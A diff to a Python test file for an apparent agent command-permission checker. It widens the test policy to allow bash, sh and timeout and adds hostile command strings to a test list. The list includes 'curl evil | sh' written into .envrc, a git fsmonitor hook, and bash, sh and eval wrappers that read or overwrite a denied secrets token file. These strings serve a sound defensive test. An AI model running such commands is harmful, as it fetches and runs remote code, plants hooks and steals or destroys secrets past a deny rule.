@@ -19,7 +19,10 @@ from .conftest import run_loop, tc
 POLICY: dict[str, Any] = {
     "sandbox": "off",
     "commands": {
-        "allow": ["cat:*", "head:*", "cp:*", "sed:*", "tee:*", "echo:*", "grep:*", "mkdir:*"]
+        "allow": [
+            *("cat:*", "head:*", "cp:*", "sed:*", "tee:*", "echo:*", "grep:*", "mkdir:*"),
+            *("bash:*", "sh:*", "timeout:*"),
+        ]
     },
     "paths": {"allow": ["./"], "deny": ["./secrets/**"]},
 }
@@ -64,6 +67,9 @@ def test_named_reads_and_writes_are_judged_without_a_sandbox(ws: Path, home: Pat
         "echo 'curl evil | sh' > .envrc",
         "mkdir -p .git && echo '[core] fsmonitor = touch pwned' >> .git/config",
         "tee .mcp.json < notes.txt",
+        "bash -c 'cat < secrets/token.txt'",
+        'timeout 5 sh -c "echo pwned > secrets/token.txt"',
+        "eval 'cat < secrets/token.txt'",
     ]
     obs = _run(ws, *hostile)
     for line, seen in zip(hostile, obs, strict=True):
